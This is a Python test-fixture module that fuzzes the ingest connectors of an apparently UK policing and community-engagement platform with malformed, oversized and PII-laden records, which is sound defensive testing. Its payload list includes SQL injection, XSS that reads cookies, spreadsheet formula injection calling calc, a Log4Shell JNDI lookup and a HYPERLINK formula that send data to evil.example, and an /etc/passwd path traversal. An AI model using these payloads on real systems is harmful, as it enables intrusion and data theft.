"""Hostile input for every connector: records in each source's own format, spoiled in the ways partners'
exports and attackers spoil them, written as the files ``engage ingest`` reads.

A record starts from a sound one of its source and takes one to three spoilers: a field replaced by a
value of the wrong type, a huge or binary-ish string, a date out of range, a point outside the UK or
not a number, an unknown neighbourhood, an injection string or personal data; a field dropped or one
added; a structure nested too deep. Its line may then be spoiled too: bytes that are not UTF-8, a
BOM, control characters, a cut, JSON that is not an object, CSV with too many or too few columns or a
stray quote. Used by the unit test (thousands of records, in memory) and the integration test (the
real broker).
"""

from __future__ import annotations

import csv
import io
import itertools
import json
import re
from collections.abc import Mapping
from dataclasses import dataclass
from functools import cache
from pathlib import Path
from typing import Any

from hypothesis import strategies as st

from connectors.base import Connector
from connectors.council_csv import CouncilCsvConnector, CouncilMapping
from connectors.fixmystreet import FixMyStreetConnector, load_codes
from connectors.ingest import ListPublisher
from connectors.registry import connector_for
from connectors.rejections import DeadLetter
from connectors.surveys import SurveyMapping, SurveysConnector
from engage.settings import REPO_ROOT
from events import Envelope
from events.codec import decode, decode_envelope, encode

BLOOMSBURY = "E36007158"
MESSAGE_LIMIT = 1_000_000
"""The broker's default largest message (message.max.bytes, about 1 MB): every event and letter must fit."""

PII_PLANTED = (
    "jo.bloggs@example.com",
    "call 07700 900123 after six",
    "ring +44 20 7946 0958",
    "I live at NW1 2DB",
)
"""Personal data planted in records; ``PII_LEAKED`` are the parts that must never be published."""
PII_LEAKED = ("jo.bloggs@example.com", "07700 900123", "7946 0958", "2DB")

BAD_BYTES = (b"\xff\xfe", b"\xc3\x28", b"\xed\xa0\x80", b"\x80abc", b"\xf4\x90\x80\x80")
"""Not UTF-8: a UTF-16 BOM, a cut sequence, an encoded surrogate, a lone continuation, past U+10FFFF."""
BYTES_MARK = "@@not-utf8@@"
DIGITS_MARK = "@@digits@@"
"""Replaced in the written line by a 5,000-digit JSON integer, more than Python reads."""

TEXTS: tuple[str, ...] = (
    "",
    "   ",
    "\x00",
    "null\x00byte",
    "\x1b[31mred\x1b[0m",
    "\u202etxet desrever",
    "\ufeffbom",
    "zero\u200bwidth",
    "\U0001f600" * 500,
    "A" * 100_000,
    "word " * 20_000,
    "'; DROP TABLE events; --",
    "1' OR '1'='1",
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "%s%s%s%n",
    "../../../../etc/passwd",
    "NaN",
    "-Infinity",
    "1e400",
    "0001-01-01T00:00:00+01:00",
    "9999-12-31T23:59:59-01:00",
    "1970-01-01T00:00:00Z",
    "2099-06-01T12:00:00+00:00",
    "2026-02-30T10:00:00Z",
    "2026-01-01T25:61:00",
    "31/12/2025",
    "9999-99",
    "E99999999",
    "Atlantis",
    *PII_PLANTED,
)
OTHER_VALUES: tuple[Any, ...] = (
    None,
    True,
    0,
    -1,
    2**63,
    10**400,
    1.5,
    -0.0,
    float("nan"),
    float("inf"),
    float("-inf"),
    1e308,
    [],
    {},
    [1, "two", None],
    {"nested": {"deeper": [1, {"x": None}]}},
    DIGITS_MARK,
    BYTES_MARK,
    "\ud800 lone surrogate",
)
POINTS: tuple[tuple[Any, Any], ...] = (
    (0.0, 0.0),
    (-33.8688, 151.2093),  # Sydney
    (55.9533, -3.1883),  # Edinburgh: in the UK, in no neighbourhood of Camden
    (91.0, 181.0),
    (float("nan"), -0.127),
    (51.52, float("inf")),
    ("51.5194", "west"),
    (None, -0.127),
)


def nested(depth: int) -> Any:
    value: Any = "bottom"
    for level in range(depth):
        value = [value] if level % 2 else {"in": value}
    return value


VALUES: st.SearchStrategy[Any] = st.one_of(
    st.sampled_from(TEXTS),
    st.sampled_from(OTHER_VALUES),
    st.text(max_size=30),
    st.integers(10, 60).map(nested),
)
"""What a spoiled field holds. Strategies are built once: hypothesis works out each new one's
properties again, which for thousands of records cost more than drawing from them."""


@cache
def one_of(choices: tuple[Any, ...]) -> st.SearchStrategy[Any]:
    return st.sampled_from(choices)


@dataclass(frozen=True)
class Source:
    """How one connector's records look and are written."""

    name: str
    sound: tuple[Mapping[str, Any], ...]
    layout: str
    """``jsonl``, ``array`` or ``csv``."""
    header: tuple[str, ...] = ()
    point: tuple[str, str] | None = None
    """The fields of a record's latitude and longitude, if it has a point."""
    file_name: str = "hostile.txt"


ID = "@@id@@"
"""Replaced by a fresh id in each record, so that records are not each other's duplicates."""

SOURCES: dict[str, Source] = {
    source.name: source
    for source in (
        Source(
            "meetings",
            (
                {
                    "id": ID,
                    "when": "2026-01-14T19:00:00+00:00",
                    "kind": "pact",
                    "where": {"ward": "Kilburn"},
                    "attendance": 23,
                    "attendee_groups": {"older_people": 6, "young_people": 2},
                    "issues_raised": [{"theme": "drugs", "votes": 9}, {"text": "Cars racing", "votes": 4}],
                    "priorities_agreed": ["drugs"],
                    "actions_reported": [
                        {"theme": "burglary", "action": "Crime prevention stall", "outcome": "completed"}
                    ],
                },
                {
                    "id": ID,
                    "when": "2026-02-01T10:00:00",
                    "kind": "street",
                    "where": {"lat": 51.5194, "lon": -0.127},
                },
            ),
            "jsonl",
            file_name="meetings.jsonl",
        ),
        Source(
            "social",
            (
                {
                    "id": ID,
                    "created_at": "2026-01-01T20:00:00+00:00",
                    "platform": "synthetic",
                    "text": "Drug dealing outside the chicken shop again tonight",
                    "author": "@gospeloak_gary",
                    "place": "Bloomsbury",
                },
                {
                    "id": ID,
                    "created_at": "Wed Oct 10 20:19:24 +0000 2025",
                    "platform": "synthetic",
                    "text": "Bins overflowing on the high street",
                    "lat": 51.5194,
                    "lon": -0.127,
                },
            ),
            "jsonl",
            point=("lat", "lon"),
            file_name="posts.jsonl",
        ),
        Source(
            "canonical",
            (
                {
                    "event_id": ID,
                    "event_type": "PartnerCallLogged",
                    "event_time": "2026-01-01T09:00:00+00:00",
                    "source": "fire-service",
                    "neighbourhood_id": BLOOMSBURY,
                    "payload": {
                        "event_type": "PartnerCallLogged",
                        "partner": "fire-service",
                        "service_code": "ARSON",
                        "theme": "criminal_damage",
                        "description": "Bin set alight",
                    },
                },
            ),
            "jsonl",
            file_name="events.jsonl",
        ),
        Source(
            "open311",
            (
                {
                    "service_request_id": ID,
                    "service_name": "Graffiti Removal",
                    "service_code": "GRAF",
                    "description": "Tags sprayed on the shutters.",
                    "agency_responsible": "Camden Council",
                    "requested_datetime": "2024-05-01T09:30:00+01:00",
                    "lat": 51.5194,
                    "long": -0.1270,
                },
            ),
            "array",
            point=("lat", "long"),
            file_name="requests.json",
        ),
        Source(
            "police-uk-priorities",
            (
                {
                    "issue": "<p>To reduce drug dealing around the station.</p>",
                    "issue-date": "2025-09-16T00:00:00",
                    "action": "<p>Plain-clothes patrols.</p>",
                    "action-date": "2025-10-20T00:00:00",
                },
                {"issue": "<p>Speeding on the high road " + ID + "</p>", "issue-date": "2025-11-04"},
            ),
            "array",
            file_name=f"camden_{BLOOMSBURY}_priorities.json",
        ),
        Source(
            "police-uk-events",
            (
                {
                    "contact_details": {"name": "PC Alex Example", "email": "jo.bloggs@example.com"},
                    "description": "<p>Quarterly ward panel.</p>",
                    "title": "Ward Panel " + ID,
                    "address": "St Pancras Library, N1C 4AG",
                    "type": "meeting",
                    "start_date": "2025-09-21T19:30:00",
                    "end_date": "2025-09-21T20:30:00",
                },
            ),
            "array",
            file_name=f"camden_{BLOOMSBURY}_events.json",
        ),
        Source(
            "police-uk-crime",
            (
                {
                    "Crime ID": ID,
                    "Month": "2023-03",
                    "Reported by": "Metropolitan Police Service",
                    "Falls within": "Metropolitan Police Service",
                    "Longitude": "-0.127",
                    "Latitude": "51.5194",
                    "Location": "On or near Great Russell Street",
                    "LSOA code": "E01000842",
                    "LSOA name": "Camden 011A",
                    "Crime type": "Drugs",
                    "Last outcome category": "Under investigation",
                    "Context": "",
                },
            ),
            "csv",
            header=(
                "Crime ID",
                "Month",
                "Reported by",
                "Falls within",
                "Longitude",
                "Latitude",
                "Location",
                "LSOA code",
                "LSOA name",
                "Crime type",
                "Last outcome category",
                "Context",
            ),
            point=("Latitude", "Longitude"),
            file_name="street.csv",
        ),
        Source(
            "council-csv",
            (
                {
                    "case_id": ID,
                    "opened": "2026-01-05 10:15:00",
                    "lat": "51.5194",
                    "lon": "-0.127",
                    "type": "Graffiti Removal",
                    "title": "Tags on the bridge",
                    "team": "Street Environment",
                },
            ),
            "csv",
            header=("case_id", "opened", "lat", "lon", "type", "title", "team"),
            point=("lat", "lon"),
            file_name="calls.csv",
        ),
        Source(
            "surveys",
            (
                {
                    "response_id": ID,
                    "submitted_at": "01/01/2026 07:33",
                    "respondent": "respondent0001@example.com",
                    "ward": "Bloomsbury",
                    "lat": "",
                    "lon": "",
                    "postcode": "",
                    "main_concerns": "Burglary; Noise",
                    "feel_safe": "Very unsafe",
                    "confidence_in_police": "3",
                    "age_band": "55-64",
                    "identifies_as": "",
                    "comment": "Too many bikes stolen",
                },
            ),
            "csv",
            header=(
                "response_id",
                "submitted_at",
                "respondent",
                "ward",
                "lat",
                "lon",
                "postcode",
                "main_concerns",
                "feel_safe",
                "confidence_in_police",
                "age_band",
                "identifies_as",
                "comment",
            ),
            point=("lat", "lon"),
            file_name="survey.csv",
        ),
        Source(
            "fixmystreet",
            (
                {
                    "month": "2019-01",
                    "lsoa": "E01000842",
                    "SHEF_A_CODE": "A33",
                    "reports": "2",
                    "unique_users": "1",
                    "average_per_user": "2.0",
                },
            ),
            "csv",
            header=("month", "lsoa", "SHEF_A_CODE", "reports", "unique_users", "average_per_user"),
            file_name="counts.csv",
        ),
    )
}

COUNCIL_MAPPING = {
    "columns": {
        "id": "case_id",
        "time": "opened",
        "latitude": "lat",
        "longitude": "lon",
        "category": "type",
        "description": "title",
        "partner": "team",
    },
    "time_format": "%Y-%m-%d %H:%M:%S",
    "timezone": "Europe/London",
    "themes": {"Graffiti Removal": "criminal_damage"},
}
SURVEY_MAPPING_FILE = REPO_ROOT / "data" / "surveys" / "camden_streetsafe_synthetic.yaml"
FMS_CODES_FILE = REPO_ROOT / "data" / "partners" / "fixmystreet" / "CODES_SHEF_A.csv"


def connector(source: str) -> Connector:
    """The source's connector, with its mapping given rather than read from beside each file."""
    if source == "council-csv":
        return CouncilCsvConnector(CouncilMapping.from_dict(COUNCIL_MAPPING, "hostile test"))
    if source == "surveys":
        return SurveysConnector(SurveyMapping.load(SURVEY_MAPPING_FILE))
    if source == "fixmystreet":
        return FixMyStreetConnector(load_codes(FMS_CODES_FILE))
    return connector_for(source)


SPOILERS = ("replace", "replace", "replace", "drop", "add", "pii", "point", "deep")
JSON_LINE_SPOILERS = ("none",) * 6 + ("bytes", "bom", "control", "cut", "not_object", "digits", "recursion")
ARRAY_ELEMENT_SPOILERS = ("none",) * 6 + ("bytes", "not_object")
"""Spoilers that leave the array readable: one that breaks its syntax ends it (``ARRAY_ENDINGS``)."""
ARRAY_ENDINGS = ("none",) * 4 + ("cut", "digits", "recursion", "control")
CSV_ROW_SPOILERS = ("none",) * 6 + ("bytes", "bom", "nul", "extra", "fewer", "stray_quote", "formula", "crlf")


BOOLEANS = st.booleans()
ADDED_KEYS = (*TEXTS[:12], "extra", "jo.bloggs@example.com")


@st.composite
def spoiled_record(draw: st.DrawFn, source: Source) -> dict[str, Any]:
    record = dict(source.sound[draw(one_of(tuple(range(len(source.sound)))))])
    keys = tuple(sorted(record))
    for _ in range(draw(one_of((1, 2, 3)))):
        how = draw(one_of(SPOILERS))
        if how == "replace":
            record[draw(one_of(keys))] = draw(VALUES)
        elif how == "drop" and record:
            del record[draw(one_of(tuple(sorted(record))))]
        elif how == "add":
            record[draw(one_of(ADDED_KEYS))] = draw(VALUES)
        elif how == "pii":
            field = draw(one_of(keys))
            record[field] = f"{record.get(field, '')} {draw(one_of(PII_PLANTED))}"
        elif how == "point" and source.point is not None:
            latitude, longitude = draw(one_of(POINTS))
            record[source.point[0]], record[source.point[1]] = latitude, longitude
        elif how == "deep":
            record[draw(one_of(keys))] = nested(draw(one_of((33, 40, 64, 200))))
    return record


def fresh_ids(data: bytes, prefix: str = "H") -> bytes:
    """Each id mark in a file or body made an id of its own: ``prefix``-1, -2, ... in order, so that the
    same draw always writes the same bytes, whatever ran before."""
    count = itertools.count(1)
    return re.sub(re.escape(ID.encode()), lambda _: f"{prefix}-{next(count)}".encode(), data)


def _raw(text: str, digits: int = 5000) -> bytes:
    """A line's bytes, with the marks for undecodable bytes and long integers put in."""
    data = text.encode("utf-8", "surrogatepass")
    data = data.replace(json.dumps(DIGITS_MARK).encode(), b"7" * digits)
    return data.replace(BYTES_MARK.encode(), b"bad " + b" ".join(BAD_BYTES))


def json_line(record: Any, spoiler: str, ascii_only: bool, digits: int = 5000) -> bytes:
    if spoiler == "not_object":
        record = list(record.values()) if isinstance(record, dict) else record
    if spoiler == "recursion":
        return b"[" * 100_000 + b"]" * 100_000
    text = json.dumps(record, ensure_ascii=ascii_only)
    if spoiler == "bytes":
        text = text.replace('"', f'"{BYTES_MARK}', 1)
    elif spoiler == "bom":
        text = "\ufeff" + text
    elif spoiler == "control":
        text = text[: len(text) // 2] + "\x01\x07\x1f" + text[len(text) // 2 :]
    elif spoiler == "cut":
        text = text[: max(1, len(text) // 3)]
    elif spoiler == "digits":
        text = text[:-1] + f', "big": {json.dumps(DIGITS_MARK)}}}' if text.endswith("}") else text
    return _raw(text, digits)


def _cell(value: Any) -> str:
    if isinstance(value, str):
        return value
    return json.dumps(value, ensure_ascii=False)


def csv_row(source: Source, record: Mapping[str, Any], spoiler: str) -> bytes:
    cells = [_cell(record.get(column, "")) for column in source.header]
    cells += [_cell(value) for key, value in record.items() if key not in source.header][:2]
    if spoiler == "extra":
        cells.append("one too many")
    elif spoiler == "fewer":
        cells = cells[: max(1, len(cells) // 2)]
    elif spoiler == "formula":
        cells[len(cells) // 2] = '=HYPERLINK("http://evil.example?"&A1,"click")'
    elif spoiler == "nul":
        cells[0] = "a\x00b"
    elif spoiler == "bytes":
        cells[-1] = BYTES_MARK
    elif spoiler == "bom":
        cells[0] = "\ufeff" + cells[0]
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="").writerow(cells)
    text = buffer.getvalue()
    if spoiler == "stray_quote":
        text = text.replace(",", ',"x"y,', 1)
    end = "\r\n" if spoiler == "crlf" else "\n"
    return _raw(text) + end.encode()


@cache
def spoiled_records(
    source: str, min_records: int, max_records: int
) -> st.SearchStrategy[list[dict[str, Any]]]:
    return st.lists(spoiled_record(SOURCES[source]), min_size=min_records, max_size=max_records)


@st.composite
def hostile_file(draw: st.DrawFn, source: Source, min_records: int, max_records: int) -> bytes:
    """A file of the source's format holding ``min_records`` to ``max_records`` hostile records."""
    records = draw(spoiled_records(source.name, min_records, max_records))
    if source.layout == "jsonl":
        lines = [json_line(record, draw(one_of(JSON_LINE_SPOILERS)), draw(BOOLEANS)) for record in records]
        return fresh_ids(b"\n".join(lines) + b"\n")
    if source.layout == "array":
        # An integer Python will not read ends the array like a syntax error: only the last may hold one.
        elements = [
            json_line(record, draw(one_of(ARRAY_ELEMENT_SPOILERS)), draw(BOOLEANS), digits=400)
            for record in records
        ]
        ending = draw(one_of(ARRAY_ENDINGS))
        if ending != "none":
            elements[-1] = json_line(records[-1], ending, True)
        bom = b"\xef\xbb\xbf" if draw(BOOLEANS) else b""
        return fresh_ids(bom + b"[\n" + b",\n".join(elements) + b"\n]\n")
    header = ",".join(source.header).encode() + b"\n"
    bom = b"\xef\xbb\xbf" if draw(BOOLEANS) else b""
    rows = [csv_row(source, record, draw(one_of(CSV_ROW_SPOILERS))) for record in records]
    return fresh_ids(bom + header + b"".join(rows))


def write(folder: Path, source: Source, content: bytes, prefix: str = "") -> Path:
    """The file as the source names it; ``prefix`` tells one run's file from another's in the letters."""
    path = folder / f"{prefix}{source.file_name}"
    path.write_bytes(content)
    return path


def non_blank_lines(content: bytes) -> int:
    """How many lines a JSON Lines reader sees that are not blank."""
    text = content.decode("utf-8", "surrogateescape")
    return sum(1 for line in io.StringIO(text, newline=None) if line.strip())


class WirePublisher(ListPublisher):
    """The in-memory publisher, but everything must survive the codec, and fit in one broker message."""

    def publish_event(self, event: Envelope) -> None:
        raw = encode(event)
        assert len(raw) < MESSAGE_LIMIT
        assert decode_envelope(raw) == event
        super().publish_event(event)

    def publish_dead_letter(self, letter: DeadLetter) -> None:
        raw = encode(letter)
        assert len(raw) < MESSAGE_LIMIT, f"a {len(raw)}-byte letter ({letter.reason}: {letter.detail[:200]})"
        assert decode(DeadLetter, raw) == letter
        super().publish_dead_letter(letter)


def leaked(raw: bytes) -> list[str]:
    """Which planted personal data ``raw`` (an encoded event or letter) still holds."""
    text = raw.decode("utf-8")
    return [pii for pii in PII_LEAKED if pii in text]
